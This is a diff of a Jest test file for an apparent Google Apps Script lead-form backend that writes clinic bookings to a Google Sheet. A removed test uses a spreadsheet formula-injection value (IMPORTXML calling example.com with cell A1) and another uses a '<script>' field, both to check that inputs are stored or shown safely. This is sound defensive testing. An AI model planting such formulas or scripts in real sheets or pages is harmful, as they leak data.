@@ -1,125 +1,160 @@
 /** @jest-environment node */
 import { contentIn } from "@/content-model/content";
 import { languages, type Language } from "@/content-model/languages";
-import { eventOf, FakeGoogle } from "./fake-google";
-import {
-  sampleLeads,
-  without,
-  type Fields,
-} from "@/components/lead-form/leads.fixture";
+import { without } from "@/components/lead-form/leads.fixture";
+import { booking, cells, deskHeader, google, header } from "./clinic.fixture";
+import { install, leadHeader, linksOf, paste, post } from "./clinic.fixture";
+import { receivedAt, recordCalls, refusal, row, rows } from "./clinic.fixture";
+import { script, setUp, thanks } from "./clinic.fixture";
+import { eventOf } from "./fake-google";
+import { leadForms, leadRules } from "./lead.js";
+import { leadMessages } from "./messages.js";
 
-const { booking, consultation } = sampleLeads;
-const receivedAt = "2026-11-21T12:30:00+05:30";
-const trouble = "Your request could not be saved just now.";
-
-let google: FakeGoogle;
-let script: ReturnType<FakeGoogle["load"]>;
-
-beforeEach(() => {
-  google = new FakeGoogle();
-  script = google.load({
-    notify: "desk@example.in",
-    phone: "+91 11 2345 6789",
-  });
-});
-
-const post = (fields: Fields) => script.doPost(eventOf(fields));
-
-const postAndParse = (fields: Fields) =>
-  JSON.parse(post(fields).body) as { ok: boolean; error?: string };
-
-/** The rows of a tab without the headings, with the columns up to and including receivedAt. */
-const rows = (tab = "Booking") =>
-  (google.sheets?.[tab]?.rows ?? [])
-    .slice(1)
-    .map((cells) => cells.slice(0, tab === "Booking" ? 6 : 10));
-
-describe("a request sent by the site", () => {
-  test("is stored as one row, with receivedAt, in the tab of its form, and gets ok: true", () => {
-    expect(post(booking)).toEqual({ type: "json", body: '{"ok":true}' });
-    post(consultation);
-
-    const tabs = { Booking: booking, Consultation: consultation };
-    for (const [tab, lead] of Object.entries(tabs)) {
-      expect(google.sheets![tab]!.rows[0]).toEqual(
-        expect.arrayContaining([...Object.keys(lead), "receivedAt"]),
-      );
-      expect(rows(tab)).toEqual([[...Object.values(lead), receivedAt]]);
-    }
-    expect(google.sheets!.Booking!.frozenRows).toBe(1);
-    expect(google.locked).toBe(false);
-  });
-
-  test("is stored as typed: Hindi, line breaks, a leading zero, and formulas that do not run", () => {
-    const typed = {
-      ...booking,
-      parentName: '=IMPORTXML("http://example.com/?"&A1,"//a")',
-      phoneNumber: "09876543210",
-      serviceRequest: "मेरी बेटी 👨‍👩‍👧\nबोलती नहीं",
-    };
-
-    post(typed);
-
-    expect(rows()).toEqual([[...Object.values(typed), receivedAt]]);
-  });
-});
-
-test("of two simultaneous posts, equal ones become one row and different ones two, also when the sheet must grow", () => {
-  google.whileWaiting = () => post({ ...booking, parentName: "Ravi Roy" });
-  post(booking);
-  google.whileWaiting = () => post({ ...booking, parentName: "Meera" });
-  post({ ...booking, parentName: "Meera" });
-
-  const names = rows().map(([name]) => name);
-  // A new tab of the fake has three rows. The headings and three leads need a fourth.
-  expect(names).toEqual(["Ravi Roy", "Asha Sen", "Meera"]);
-  expect(google.mails).toHaveLength(3);
-});
+const lead = [...Object.values(booking), receivedAt];
 
 describe("the answer is an error, not ok", () => {
-  test("when the row cannot be written; the lock is released and a second attempt succeeds", () => {
-    post(consultation);
-    const sheet = google.sheets!.Consultation!;
-    const lead = { ...consultation, childName: "Rani" };
-    sheet.isFailing = true;
+  test("when the script belongs to no spreadsheet, or settings.sheet is a wrong address", () => {
+    google.sheets = undefined;
+    expect(post(booking)).toBe(refusal);
+    expect(google.log.join()).toContain("no spreadsheet");
 
-    expect(postAndParse(lead)).toEqual({ ok: false, error: trouble });
-    expect(google.locked).toBe(false);
-    expect(google.mails).toHaveLength(1);
-    expect(google.log.join()).not.toContain("Asha");
-
-    sheet.isFailing = false;
-    expect(postAndParse(lead)).toEqual({ ok: true });
-    expect(rows("Consultation")).toHaveLength(2);
+    install({ sheet: "https://docs.google.com/spreadsheets/d/wrong/edit" });
+    expect(post(booking)).toBe(refusal);
   });
 
-  test("when the script belongs to no spreadsheet", () => {
-    google.sheets = undefined;
+  test("when the tab is somebody else's, which is not changed", () => {
+    const sheet = paste(["Name", "Phone", "status"], ["Ravi", "1", "then"]);
 
-    expect(postAndParse(booking)).toEqual({ ok: false, error: trouble });
-    expect(google.log.join()).toContain("no spreadsheet");
+    expect(post(booking)).toBe(refusal);
+    expect(sheet.rows).toHaveLength(2);
+    expect(google.log.join()).toMatch(/"Booking".*parentName, phoneNumber/);
+  });
+
+  test("when others hold the lock for longer than the post may wait; the page waits 20 seconds", () => {
+    google.lockHeldFor = 12_000;
+
+    expect(post(booking)).toBe(refusal);
+    expect(google.sheets).toEqual({});
   });
 
   test("when a field is unknown or sent twice, or the event is not in Google's format", () => {
-    const unknown = { ...booking, card: "1" };
     const twice = { parentName: ["A", "B"], location: ["x"], timestamp: ["t"] };
 
-    expect(postAndParse(unknown).error).toMatch(/"card"\.$/);
+    expect(post({ ...booking, card: "1" })).toMatch(/"ok":false.*card/);
     expect(script.doPost({ parameters: twice }).body).toContain("twice");
     for (const event of [undefined, null, {}, { parameters: { location: 5 } }])
-      expect(JSON.parse(script.doPost(event).body).ok).toBe(false);
+      expect(script.doPost(event).body).toContain('"ok":false');
     expect(google.sheets).toEqual({});
   });
 });
 
+describe.each([
+  ["at once", false],
+  ["at the flush", true],
+])("when Google refuses a cell %s", (_, failsAtFlush) => {
+  test.each([
+    ["right of the lead", header],
+    ["right of an own column", [...leadHeader, "called", ...deskHeader]],
+    ["of a heading of the desk", leadHeader],
+  ])(
+    "%s, the lead is kept once, thanked for and told, without its status",
+    (_, names) => {
+      const sheet = paste(names);
+      sheet.failsFrom = header.indexOf("next") + 1;
+      Object.assign(sheet, { failsAtFlush });
+
+      expect([post(booking), post(booking)]).toEqual([thanks, thanks]);
+
+      const kept = rows().map((texts) => texts.slice(0, lead.length));
+      expect(kept).toEqual([lead]);
+      expect(google.mails).toHaveLength(1);
+      expect(google.log).toEqual([
+        expect.stringContaining("The lead is in the sheet, without its status"),
+      ]);
+      expect(google.locked).toBe(false);
+    },
+  );
+
+  test("of the lead, the parent gets an error, and can send it again", () => {
+    const sheet = paste(header);
+    Object.assign(sheet, { failsFrom: 1, failsAtFlush });
+
+    expect(post(booking)).toBe(refusal);
+    expect([google.mails, rows(), google.locked]).toEqual([[], [], false]);
+    expect(google.log.join()).not.toContain("Asha");
+
+    sheet.failsFrom = Infinity;
+    expect(post(booking)).toBe(thanks);
+  });
+});
+
+describe("a clinic that has forgotten to paste", () => {
+  test.each(["desk", "mail"])("%s.js still gets each lead", (name) => {
+    install({}, name);
+
+    expect(post(booking)).toBe(thanks);
+    expect(rows()).toEqual([lead]);
+    expect(google.mails).toHaveLength(name === "desk" ? 1 : 0);
+  });
+
+  test.each(["lead", "messages", "sheet"])(
+    "%s.js sees an error when it sets up the desk or tries the address",
+    (name) => {
+      install({}, name);
+
+      const steps = () => [setUp(), script.doGet()];
+      expect(steps).toThrow("is not defined");
+    },
+  );
+});
+
+test.each([10, 10_000])(
+  "a lead below %i others costs 14 calls to the spreadsheet, and one flush",
+  (count) => {
+    const { address } = google;
+    install({ sheet: address + "?gid=0#gid=0" });
+    google.address += "?gid=0#gid=0";
+    const leads = Array.from({ length: count }, (_, index) =>
+      row({ parentName: `Parent ${index}` }).slice(0, leadHeader.length),
+    );
+    paste(leadHeader, ...leads, [], []);
+    // The first lead adds the columns of the desk.
+    post({ ...booking, parentName: "Ravi" });
+    const calls = recordCalls();
+
+    expect(post(booking)).toBe(thanks);
+
+    expect(calls).toEqual([
+      ...["openByUrl", "getSheetByName"],
+      ...["getRange", "getDisplayValues"],
+      ...["getLastRow", "getRange", "getDisplayValues"],
+      ...["getMaxRows", "getRangeList", "setNumberFormat"],
+      ...["getRange", "setValues", "flush"],
+      // For the link of the mail.
+      "getSheetId",
+    ]);
+    expect(linksOf(google.mails[1]!.htmlBody)).toContain(
+      `${address}#gid=0&range=${count + 3}:${count + 3}`,
+    );
+  },
+);
+
+test("a GET request is answered with the rules and messages, which launch-check compares", () => {
+  const rules = { leadForms, leadRules, leadMessages };
+
+  expect(script.doGet().body).toBe(
+    JSON.stringify({ ok: true, service: "k7-leads", rules }),
+  );
+});
+
 describe("a browser without JavaScript", () => {
-  const nativePost = without("timestamp", booking);
+  const native = without("timestamp", booking);
 
   const sectionIn = ({ code }: Language, body: string) =>
     body.split(`<section lang="${code}">`)[1]?.split("</section>")[0];
 
   test("shows the site's thanks in each language of the site, and the empty timestamp is filled with the server's time", () => {
-    const answer = post({ ...nativePost, timestamp: "" });
+    const answer = script.doPost(eventOf({ ...native, timestamp: "" }));
 
     expect(answer).toMatchObject({ type: "html", title: "Thank you | धन्यवाद" });
     for (const language of languages)
@@ -127,11 +162,11 @@ describe("a browser without JavaScript", () => {
         `<p>${contentIn(language).leadForm.success}</p>`,
       );
     expect(answer.body).toContain('href="tel:+911123456789"');
-    expect(rows()[0]!.at(-2)).toBe("2026-11-21T07:00:00.000Z");
+    expect(cells("timestamp")).toEqual(["2026-11-21T07:00:00.000Z"]);
   });
 
   test("gets the error in each language, with markup shown as text, and the number to call", () => {
-    const answer = post({ ...nativePost, "<script>": "" });
+    const answer = script.doPost(eventOf({ ...native, "<script>": "" }));
 
     expect(answer.title).toBe("Your request was not sent | आपका फ़ॉर्म नहीं गया");
     for (const language of languages)
@@ -139,12 +174,15 @@ describe("a browser without JavaScript", () => {
         /<p>[^\n]*&lt;script&gt;[^\n]*[.।] [^\n]{50,}[.।]<\/p>\n<p>[^\n]*tel:/,
       );
     expect(answer.body).not.toContain("<script>");
-    expect(rows()).toEqual([]);
+    expect(google.sheets).toEqual({});
   });
 
   test("gets the JSON answer when Google cannot make a page", () => {
-    google.pagesWork = false;
+    Object.assign(script, { HtmlService: {} });
 
-    expect(post(nativePost)).toEqual({ type: "json", body: '{"ok":true}' });
+    expect(script.doPost(eventOf(native))).toEqual({
+      type: "json",
+      body: thanks,
+    });
   });
 });
